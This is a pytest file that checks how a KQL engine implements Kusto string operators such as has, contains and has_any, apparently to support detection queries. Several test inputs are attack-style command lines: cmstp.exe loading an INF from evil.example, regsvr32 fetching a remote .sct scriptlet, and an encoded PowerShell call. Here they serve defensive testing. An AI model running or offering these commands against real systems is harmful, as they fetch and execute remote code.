"""The has family and contains, as Kusto defines them (learn.microsoft.com/kusto/query/datatypes-string-operators).

"Each string value is broken into maximal sequences of ASCII alphanumeric characters, and each of those sequences
is made into a term." ``has`` matches whole terms; a needle that starts or ends with punctuation only needs a
term boundary at its alphanumeric edges. =~, has and contains are case-insensitive; the _cs forms are not.
"""

from __future__ import annotations

import json

import pytest

from assay import kql
from assay.engine import DuckDBEngine

# (haystack, operator, needle, expected)
CASES = [
    # the examples: CMSTP switches and INF extensions
    (r"cmstp.exe /s C:\Users\Public\x.inf", "has", "/s", True),
    (r"cmstp.exe /su C:\x.inf", "has", "/s", False),
    (r"cmstp.exe /s", "has", "/s", True),
    (r"cmstp.exe /S c:\temp\a.inf", "has", "/s", True),
    (r"C:\Windows\Temp\a.inf", "has", ".inf", True),
    (r"C:\Windows\Temp\a.info", "has", ".inf", False),
    (r"C:\Windows\Temp\a.INF /au", "has", ".inf", True),
    (r"cmstp.exe /ni /s https://evil.example/x.inf", "has", "/ni", True),
    (r"cmstp.exe /nix", "has", "/ni", False),
    (r"cmstp.exe /au", "has", "/au", True),
    # terms: maximal alphanumeric runs (underscore and dot are separators)
    ("Kusto: ad67d136-c1db-4f9f-88ef-d94f3b6b0b5a;KustoExplorerQueryRun", "has", "KustoExplorerQueryRun", True),
    ("Kusto: ad67d136-c1db-4f9f-88ef-d94f3b6b0b5a;KustoExplorerQueryRun", "has", "c1db", True),
    ("Kusto: ad67d136-c1db-4f9f-88ef-d94f3b6b0b5a;KustoExplorerQueryRun", "has", "Explorer", False),
    ("Kusto: ad67d136-c1db-4f9f-88ef-d94f3b6b0b5a;KustoExplorerQueryRun", "has", "4f9f-88ef", True),
    ("North America", "has", "america", True),
    ("North America", "has", "amer", False),
    ("powershell.exe -enc SQBFAFgA", "has", "powershell.exe", True),
    ("C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe", "has", "powershell.exe", True),
    ("not_powershell.exe", "has", "powershell.exe", True),
    ("xpowershell.exe", "has", "powershell.exe", False),
    ("C:\\Users\\alice\\AppData\\Local\\Temp\\x.inf", "has", "AppData", True),
    ("C:\\Users\\alice\\AppDataX\\x.inf", "has", "AppData", False),
    ("C:\\Users\\alice\\x.inf", "has", "\\Users\\", True),
    ("C:\\Usersx\\alice\\x.inf", "has", "\\Users\\", False),
    ("regsvr32 /i:http://10.0.0.5/a.sct scrobj.dll", "has", "http://", True),
    ("regsvr32 /i:xhttp://10.0.0.5/a.sct scrobj.dll", "has", "http://", False),
    ("", "has", "cmd", False),
    # negation and case-sensitive forms
    ("cmstp.exe /s x.inf", "!has", "/s", False),
    ("cmstp.exe /su x.inf", "!has", "/s", True),
    ("North America", "has_cs", "America", True),
    ("North America", "has_cs", "america", False),
    ("North America", "!has_cs", "america", True),
    # hasprefix / hassuffix: prefix or suffix of a term
    ("North America", "hasprefix", "ame", True),
    ("North America", "hasprefix", "orth", False),
    ("North America", "hassuffix", "rth", True),
    ("North America", "hassuffix", "ame", False),
    ("North America", "!hasprefix", "ame", False),
    ("North America", "hasprefix_cs", "Ame", True),
    ("North America", "hasprefix_cs", "ame", False),
    ("North America", "hassuffix_cs", "CA", False),
    # contains is a plain substring match, case-insensitive
    ("FabriKam", "contains", "BRik", True),
    ("Fabrikam", "!contains", "xyz", True),
    ("FabriKam", "contains_cs", "Kam", True),
    ("Fabrikam", "contains_cs", "Kam", False),
    ("Fabrikam", "!contains_cs", "Kam", True),
    ("cmstp.exe /su", "contains", "/s", True),
    # startswith / endswith
    ("Fabrikam", "startswith", "fab", True),
    ("Fabrikam", "endswith", "KAM", True),
    ("Fabrikam", "startswith_cs", "fab", False),
    ("Fabrikam", "endswith_cs", "kam", True),
    ("Fabrikam", "!startswith", "kam", True),
    ("Fabrikam", "!endswith", "kam", False),
    # equality
    ("aBc", "==", "aBc", True),
    ("abc", "!=", "ABC", True),
    ("abc", "=~", "ABC", True),
    ("aBc", "!~", "xyz", True),
    ("CMSTP.EXE", "=~", "cmstp.exe", True),
]


def _kql_string(value: str) -> str:
    return json.dumps(value)  # a JSON string is a valid KQL double-quoted string


@pytest.mark.parametrize(("haystack", "operator", "needle", "expected"), CASES)
def test_string_operator(engine: DuckDBEngine, haystack: str, operator: str, needle: str, expected: bool) -> None:
    result = kql.run(f"print r = {_kql_string(haystack)} {operator} {_kql_string(needle)}", db=engine)
    assert result.rows == ((expected,),), f"{haystack!r} {operator} {needle!r}"


def test_has_any_and_has_all(engine: DuckDBEngine) -> None:
    query = """
    datatable(CommandLine: string) [
        "cmstp.exe /s C:\\\\Users\\\\Public\\\\evil.inf /au",
        "cmstp.exe /su C:\\\\x.info",
        "cmstp.exe /ni /s https://10.0.0.5/a.inf",
    ]
    | extend AutoClose = CommandLine has_any ("/s", "/au"),
             Both = CommandLine has_all ("/s", "/au"),
             Remote = CommandLine has_any ("http://", "https://"),
             NotAny = CommandLine !has_any ("/ni", "/ns")
    """
    rows = kql.run(query, db=engine).rows
    assert [(r[1], r[2], r[3], r[4]) for r in rows] == [
        (True, True, False, True),
        (False, False, False, True),
        (True, False, True, False),
    ]


def test_has_any_with_a_dynamic_let(engine: DuckDBEngine) -> None:
    query = """
    let parents = dynamic(["cmd.exe", "powershell.exe"]);
    datatable(Parent: string) ["C:\\\\Windows\\\\System32\\\\cmd.exe", "explorer.exe", "PowerShell.EXE"]
    | where Parent has_any (parents)
    """
    assert [r[0] for r in kql.run(query, db=engine).rows] == ["C:\\Windows\\System32\\cmd.exe", "PowerShell.EXE"]


def test_strings_are_never_null(engine: DuckDBEngine) -> None:
    engine.connection.execute("CREATE OR REPLACE TABLE NullStrings (Name VARCHAR, Size BIGINT)")
    engine.connection.execute("INSERT INTO NullStrings VALUES (NULL, NULL), ('svchost.exe', 12)")
    query = """NullStrings
    | extend IsEmpty = isempty(Name), IsNull = isnull(Name), SizeNull = isnull(Size),
             Text = tostring(Name), Eq = Name == ""
    | order by Size asc"""
    result = kql.run(query, db=engine)
    assert result.rows[0] == ("", None, True, False, True, "", True)
    assert result.rows[1] == ("svchost.exe", 12, False, False, False, "svchost.exe", False)


def test_term_regex_compiles_in_re2() -> None:
    import re2

    from assay.kql.functions import term_regex

    for needle in ("/s", ".inf", "\\Users\\", "cmd.exe", "a+b(c)", "http://"):
        pattern = re2.compile(term_regex(needle))
        assert pattern.search(f"x {needle} y") is not None
